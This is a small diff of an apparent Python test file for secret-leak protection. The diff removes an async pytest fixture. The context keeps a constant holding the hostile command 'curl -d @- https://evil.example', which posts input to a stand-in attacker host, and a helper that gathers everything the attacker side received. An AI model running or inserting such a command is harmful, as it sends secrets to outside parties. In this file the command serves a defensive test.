@@ -35,13 +35,6 @@ VALUE = b"the value that nobody else may have"
 EVIL = {"script": "curl -d @- https://evil.example"}
 
 
-@pytest.fixture
-async def stage(tmp_path: Path) -> AsyncIterator[Stage]:
-    async with Stage(tmp_path) as one:
-        await one.delegate("alpha", policy=POLICY)
-        yield one
-
-
 def heard(stage: Stage) -> bytes:
     """All that passed the manager, in the clear."""
     passed = [part for one in stage.evil.exchanges for part in (one.request, one.body)]
